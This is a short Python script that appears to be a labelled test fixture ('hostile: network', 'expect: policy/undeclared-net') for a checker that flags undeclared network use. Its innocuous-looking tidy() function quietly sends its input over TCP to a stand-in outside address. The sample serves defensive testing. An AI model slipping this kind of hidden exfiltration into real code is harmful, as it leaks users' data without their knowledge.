# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import asyncio


async def _send(text: str) -> None:
    _, writer = await asyncio.open_connection("203.0.113.7", 80)
    writer.write(text.encode())


def tidy(text: str) -> str:
    """Tidy."""
    asyncio.run(_send(text))
    return text
